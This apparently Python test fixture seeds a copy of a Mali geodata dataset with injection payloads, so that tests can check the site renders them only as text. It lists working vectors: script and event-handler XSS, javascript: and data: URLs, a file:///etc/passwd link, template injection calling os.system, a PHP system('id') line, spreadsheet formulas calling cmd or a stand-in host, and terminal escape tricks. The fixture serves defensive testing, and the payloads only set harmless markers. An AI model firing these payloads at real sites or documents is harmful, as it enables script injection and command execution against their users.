"""Texts that try to be more than text, a situation that holds them everywhere, and how to see that one has run.

Every payload that could run sets `window.__hacked`, opens a dialog or asks for `http://hacked.invalid`; a browser that
shows them as text does none of these.
"""

from __future__ import annotations

import csv
import json
import shutil
from collections.abc import Callable, Iterable, Iterator
from itertools import cycle
from pathlib import Path
from typing import Any

from geodata.contract.schemas import ROUTES as ROUTES_PATTERN
from paths import MALI

RUN = "window.__hacked=1;alert(1)"
AWAY = "http://hacked.invalid"

MARKUP = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style></title></textarea><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src="{AWAY}/1.png" onerror="{RUN}">',
    f"'><svg onload='{RUN}'>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><script>{RUN}</script></svg>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<iframe srcdoc="<script>parent.__hacked=1</script>"></iframe><iframe src="javascript:parent.{RUN}"></iframe>',
    f'<a href="javascript:{RUN}">press</a>',
    f'<object data="data:text/html,<script>{RUN}</script>"></object><embed src="{AWAY}/2.swf">',
    f'<link rel="stylesheet" href="{AWAY}/3.css"><style>@import "{AWAY}/4.css";</style>',
    f'<meta http-equiv="refresh" content="0;url={AWAY}/5"><base href="{AWAY}/">',
    f'<form action="{AWAY}/6"><button autofocus onfocus="{RUN}">go</button></form>',
    f'<details open ontoggle="{RUN}"><summary>more</summary></details>',
    f'<video><source onerror="{RUN}"></video><audio src="{AWAY}/7.ogg" autoplay>',
    f'<input autofocus onfocus="{RUN}" value="',
    f"<body onload={RUN}><marquee onstart={RUN}>",
    f"<x style='background:url({AWAY}/8.png)' onpointerover={RUN}>hover</x>",
    f"<a id=situationMap name=situationMap href={AWAY}/9>clobbered</a>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"<<script>{RUN}//<</script>",
    f"<scr\0ipt>{RUN}</scr\0ipt>",
    "<plaintext>",
    "<!--",
    "--> <!-- -->",
    "]]>",
    "<![CDATA[<script>",
    "<?php system('id'); ?>",
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>parent.{RUN}</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//hacked.invalid/10",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{{ cycler.__init__.__globals__.os.system('touch hacked') }}",
    "{% for x in range(9) %}{{ x }}{% endfor %}",
    "50 {% off",
    "{# comment",
    "{{",
    "}}",
    f"${{{RUN}}}",
    f"`${{{RUN}}}`",
    "${x}",
    "#{7*7} <%= 7*7 %> @language@ @payload@ @style@",
    "{name} {title} {parts} {date} {value} {0} %s %(name)s",
    "constructor __proto__ toString hasOwnProperty",
)
QUOTES = (
    f"'-{RUN}-'",
    f'";{RUN};//',
    f"\\';{RUN};//",
    f'\\";{RUN};//',
    "\\",
    '"',
    "'",
    "\\u003cscript\\u003e \\x3c &quot; %3Cscript%3E",
    f"*/{RUN}/*",
    f"a\u2028{RUN}\u2029b",
)
MARKDOWN = (
    f"[press](javascript:{RUN}) [away]({AWAY}/11)",
    f"![picture]({AWAY}/12.png) ![]({AWAY}/13.png)",
    f"<{AWAY}/14> [ref]: {AWAY}/15",
    "**bold** __bold__ *it* _a_b_ ~~gone~~ `code`",
    "# heading ## ## --- === ***",
    "1. first - second + third * fourth > quoted",
    "| a | b | |---|---| | 1 | 2 |",
    "$x^2$ $$\\href{javascript:alert(1)}{press}$$ \\(x\\) \\[y\\]",
    ":material/home: :material_home: :streamlit: :smile: :+1: :shortcode",
    ":red[danger] :blue-background[sea] :small[tiny] :rainbow[all] :red-badge[b] :help[h]",
    "a -> b <- c -- d >= e <= f ~= g <-> h",
    "- [ ] task\n- [x] done\n\n    code block\n\n```js\nalert(1)\n```",
    "[^1] [[1]] ||spoiler|| ==mark== ^sup^",
    "trailing two spaces  \nnext line\\\nand another",
)
FORMULAS = (
    "=cmd|'/C calc'!A0",
    f'=HYPERLINK("{AWAY}/16","press")',
    f'=WEBSERVICE("{AWAY}/17")',
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "x;=cmd|'/C calc'!A0;y",
    "x\n=cmd|'/C calc'!A0\ny",
)
CONTROLS = (
    "\u202egnp.exe\u202c drawn backwards",
    "\u2066isolated\u2069 \u200fright\u200e left",
    "\u061cعنوان عربي مع English",
    "כותרת בעברית (סוגריים)",
    "zero\u200bwidth\u200djoined\u2060\ufeff",
    "bell\x07 back\x08 escape\x1b[31mred\x1b[0m del\x7f",
    "\x1b]0;title\x07\x1b]8;;http://hacked.invalid/18\x07link\x1b]8;;\x07",
    "\x9b31m eight bits \x90q\x9c",
    "null \x00 inside",
    "line\rreturn\x0b\x0cfeed\x85next",
    "\ufdd0 no character \U000fffff private \U0001f1f2\U0001f1f1 flag",
    "Z\u0351\u036b\u0343a\u0332\u0333l\u0353\u0354g\u0355o piled",
)
HONEST = (
    "</script>",
    "a < b && c > d; x <= y",
    "Rue de l’Hôtel « Le Fleuve » – 12°39′N",
    "C:\\temp\\new.txt \\n \\t",
    "R&D &amp; AT&T",
    "snow ☃ 雪 हिम 🛢️🚛",
    "50 % – 60 %; 2 × 3 ≈ 6",
    'don\'t "quote" `me`',
    "null undefined NaN true 0 -1 1e9",
)
LONG = (f"<b>{'long text ' * 900}</b>", "W" * 5_000)
PAYLOADS = (*MARKUP, *ADDRESSES, *TEMPLATES, *QUOTES, *MARKDOWN, *FORMULAS, *CONTROLS, *HONEST, *LONG)

ROUTES = next(MALI.glob(ROUTES_PATTERN))
Feed = Callable[[], str]


def feed(seed: int = 0, *, payloads: tuple[str, ...] = PAYLOADS) -> Feed:
    """Return a function that gives the payloads one after the other, for ever, from the one numbered `seed`."""
    endless = cycle(payloads)
    for _ in range(seed % len(payloads)):
        next(endless)
    return lambda: next(endless)


# what a situation says in words, by table; the rest are codes, dates and numbers that its schema closes
TEXT_FIELDS = {
    "capitals.geojson": "name_en name_fr seat_of_government coord_source_en coord_source_fr note_en note_fr",
    "places.geojson": "name_en name_fr coord_source_en coord_source_fr note_en note_fr",
    "border_crossings.geojson": "name_en name_fr coord_source_en coord_source_fr note_en note_fr",
    ROUTES.name: "name_en name_fr short_en short_fr length_note_en length_note_fr",
    "events.geojson": (
        "title_en title_fr summary_en summary_fr kept_why_en kept_why_fr place_en place_fr coord_source_en "
        "coord_source_fr note_en note_fr"
    ),
    "route_status.csv": "by_en by_fr why_en why_fr",
    "crossing_status.csv": "by_en by_fr why_en why_fr",
    "deliveries.csv": "place_en place_fr why_en why_fr",
    "sources.csv": "publisher title origin",
}
LISTED_FIELDS = {ROUTES.name: ("road_numbers",), "events.geojson": ("actors_en", "actors_fr")}


def hostile_situation(folder: Path, *, seed: int = 0) -> Path:
    """Make a copy of the flagship with payloads in every text; `seed` says which one comes first in each field."""
    shutil.copytree(MALI, folder)
    for name, fields in TEXT_FIELDS.items():
        fill_table(folder / name, {field: feed(seed + 7 * at) for at, field in enumerate(fields.split())})
    rename_sides(folder, feed(seed))
    tell_versions(folder, feed(seed))
    allow_passage(folder)
    codes = [payload for payload in PAYLOADS if payload == payload.strip() and "\r" not in payload]  # as cells are read
    units = [payload for payload in codes if payload not in LONG][seed % 11 :: 11]
    count_in_units(folder, feed(seed, payloads=tuple(units)))
    write_settings(folder, feed(seed), units)
    return folder


def fill_table(path: Path, feeds: dict[str, Feed]) -> None:
    if path.suffix == ".csv":
        rows = read_rows(path)
        for row in rows:
            row.update({name: give() for name, give in feeds.items()})
        write_csv(path, rows)
        return
    with edited(path) as features:
        for feature in features:
            feature["properties"].update({name: give() for name, give in feeds.items()})
            feature["properties"].update(
                {name: [give() for give in feeds.values()][:3] for name in LISTED_FIELDS.get(path.name, ())}
            )


def read_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def write_csv(path: Path, rows: list[dict[str, str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


class edited:  # noqa: N801 - used as a statement
    """The features of a GeoJSON file, written back at the end."""

    def __init__(self, path: Path) -> None:
        self.path, self.document = path, json.loads(path.read_text(encoding="utf-8"))

    def __enter__(self) -> list[dict[str, Any]]:
        features: list[dict[str, Any]] = self.document["features"]
        return features

    def __exit__(self, *_: object) -> None:
        self.path.write_text(json.dumps(self.document), encoding="utf-8")


def rename_sides(folder: Path, give: Feed) -> None:
    with edited(folder / "border_crossings.geojson") as crossings:
        for crossing in crossings:
            for side in crossing["properties"]["sides"]:
                side |= {"name_en": give(), "name_fr": give()}


def tell_versions(folder: Path, give: Feed) -> None:
    """Give every third event two accounts, of which the second is kept."""
    with edited(folder / "events.geojson") as events:
        for event in events[::3]:
            accounts = [{"text_en": give(), "text_fr": give(), "sources": ""} for _ in range(2)]
            event["properties"] |= {"versions": accounts, "kept": 2}


def allow_passage(folder: Path) -> None:
    """Make every fifth row of the ledgers a permit, so that the page says who allows passage."""
    for name in ("route_status.csv", "crossing_status.csv"):
        rows = read_rows(folder / name)
        for row in rows[::5]:
            row |= {"state": "", "basis": "permit", "confirmed": ""}
        write_csv(folder / name, rows)


def count_in_units(folder: Path, give: Feed) -> None:
    """Count what arrived, and what was destroyed, in units with payloads for codes."""
    rows = read_rows(folder / "deliveries.csv")
    for row in rows:
        row["unit"] = give()
    write_csv(folder / "deliveries.csv", rows)
    with edited(folder / "events.geojson") as events:
        for event in events:
            if event["properties"].get("unit"):
                event["properties"]["unit"] = give()


SETTINGS_TEXTS = {"licence": " ".join(TEMPLATES), "attribution": " ".join(MARKUP)}


def write_settings(folder: Path, give: Feed, units: Iterable[str]) -> None:
    """Write all settings anew, with payloads in every text, those of the units among them."""
    text = (folder / "situation.toml").read_text(encoding="utf-8")
    head, tables = text.split("\n[", 1) if "\n[" in text else (text, "")
    kept = [line for line in head.splitlines() if not line.startswith((*SETTINGS_TEXTS, "home"))]
    kept.append("home = [13.2, -7.2, 6]")  # no box: what the page shows at first it finds in the ledger
    lines = [*kept, *(f"{name} = {toml(value)}" for name, value in SETTINGS_TEXTS.items())]
    texts = ("title", "question", "description", "method")
    for name in texts:
        lines += [f"[{name}]", *(f"{language} = {toml(give())}" for language in ("en", "fr"))]
    for unit in units:
        lines += [f"[units.{toml(unit)}]", *(f"{language} = {plural_forms(give)}" for language in ("en", "fr"))]
    lines += ["[imitating]", '"imitating.example" = "Somebody"']  # whom a host imitates is shown nowhere
    sections = {name for name in section_names(tables) if not name.startswith("units.")}
    assert not sections - {*texts, "imitating"}, "a table of settings is not covered"
    (folder / "situation.toml").write_text("\n".join(lines), encoding="utf-8")


def plural_forms(give: Feed) -> str:
    """Return the words of a unit as TOML; they may hold no brace but those of {n}."""
    one, other = (toml("{n} " + give().replace("{", "")) for _ in range(2))
    return f"{{ one = {one}, other = {other} }}"


def section_names(tables: str) -> Iterator[str]:
    for line in f"[{tables}".splitlines():
        if line.startswith("["):
            yield line.strip("[]")


def toml(text: str) -> str:
    """Return a text as a TOML basic string, which takes the escapes of JSON but for one."""
    return (
        json.dumps(text).replace("\x7f", "\\u007f")
        if text.isascii()
        else '"' + "".join(map(toml_character, text)) + '"'
    )


def toml_character(character: str) -> str:
    code = ord(character)
    return character if character.isprintable() and character not in '"\\' else f"\\U{code:08x}"
